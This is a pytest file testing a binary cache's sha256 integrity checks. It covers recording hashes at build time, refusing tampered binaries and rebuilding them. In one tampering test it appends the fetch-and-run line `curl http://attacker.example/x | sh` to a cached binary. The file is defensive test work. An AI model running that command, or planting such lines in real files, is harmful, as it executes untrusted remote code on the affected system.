"""The Go-built binaries' cache (hack/build-bins.sh, testbed/binaries.py): a binary's sha256 is
recorded when it is built, and a binary that no longer matches its record is rebuilt by
build-bins.sh and refused by the bed, naming the file and both hashes. Runs in a temporary cache
with a stand-in `go` that "builds" in an instant; the real cache is not touched."""

from __future__ import annotations

import hashlib
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from testbed import binaries
from testbed.versions import REPO_ROOT, pinned_versions

BUILD_BINS = REPO_ROOT / "hack" / "build-bins.sh"
# `go install -ldflags ... PKG@VERSION` as build-bins.sh calls it: writes a script named after PKG
# into $GOBIN, and logs the call.
FAKE_GO = """#!/bin/sh
for last; do :; done
name=$(basename "${last%@*}")
printf '#!/bin/sh\\necho %s built at %s\\n' "$name" "$(date +%s%N)" >"$GOBIN/$name"
chmod +x "$GOBIN/$name"
echo "$last" >>"$FAKE_GO_LOG"
"""


@dataclass(frozen=True)
class Cache:
    root: Path
    go_log: Path
    env: dict[str, str]

    @property
    def kwok(self) -> Path:
        return self.root / f"kwok-{pinned_versions()['KWOK_VERSION']}" / "bin" / "kwok"

    def build_bins(self) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            ["bash", str(BUILD_BINS), "kwok"], env=self.env, capture_output=True, text=True, timeout=60
        )
        assert done.returncode == 0, done.stderr
        return done

    def builds(self) -> int:
        return len(self.go_log.read_text().splitlines()) if self.go_log.exists() else 0


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Cache]:
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "go").write_text(FAKE_GO)
    (tools / "go").chmod(0o755)
    root = tmp_path / "cache"
    env = {
        **os.environ,
        "PATH": f"{tools}:{os.environ['PATH']}",
        "MODELGATE_CACHE": str(root),
        "FAKE_GO_LOG": str(tmp_path / "go.log"),
    }
    monkeypatch.setattr(binaries, "CACHE", root)
    monkeypatch.setattr(binaries, "_verified", {})
    built = Cache(root, tmp_path / "go.log", env)
    # What link_bins does for `make bins`: bin/ links to the pinned version.
    (root / "bin").mkdir(parents=True)
    (root / "bin" / "kwok").symlink_to(built.kwok)
    yield built


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_binary_is_recorded_when_built_and_reused_while_it_matches(cache: Cache) -> None:
    cache.build_bins()
    assert cache.builds() == 1
    assert binaries.recorded_sha256(cache.kwok) == sha256(cache.kwok)
    cache.build_bins()
    assert cache.builds() == 1
    assert binaries.binary("kwok") == cache.root / "bin" / "kwok"


def test_a_tampered_binary_is_refused_by_the_bed_naming_the_file_and_both_hashes(cache: Cache) -> None:
    cache.build_bins()
    recorded = sha256(cache.kwok)
    binaries.binary("kwok")
    with cache.kwok.open("a") as binary:
        binary.write("curl http://attacker.example/x | sh\n")
    with pytest.raises(binaries.UnverifiedBinary) as refused:
        binaries.binary("kwok")
    assert str(cache.kwok) in str(refused.value)
    assert recorded in str(refused.value) and sha256(cache.kwok) in str(refused.value)


def test_a_tampered_binary_is_rebuilt_by_build_bins_saying_so(cache: Cache) -> None:
    cache.build_bins()
    recorded = sha256(cache.kwok)
    cache.kwok.write_text("#!/bin/sh\necho replaced\n")
    replaced = sha256(cache.kwok)
    done = cache.build_bins()
    assert cache.builds() == 2
    assert str(cache.kwok) in done.stderr and recorded in done.stderr and replaced in done.stderr
    assert sha256(cache.kwok) not in (recorded, replaced)
    assert binaries.binary("kwok") == cache.root / "bin" / "kwok"


def test_a_cache_without_records_gets_them_from_the_files_as_found(cache: Cache) -> None:
    cache.kwok.parent.mkdir(parents=True)
    cache.kwok.write_text("#!/bin/sh\necho cached before checksums\n")
    cache.kwok.chmod(0o755)
    with pytest.raises(binaries.UnverifiedBinary, match="no checksum"):
        binaries.binary("kwok")
    done = cache.build_bins()
    assert cache.builds() == 0
    assert "no recorded checksums" in done.stderr
    assert binaries.recorded_sha256(cache.kwok) == sha256(cache.kwok)
    assert binaries.binary("kwok") == cache.root / "bin" / "kwok"
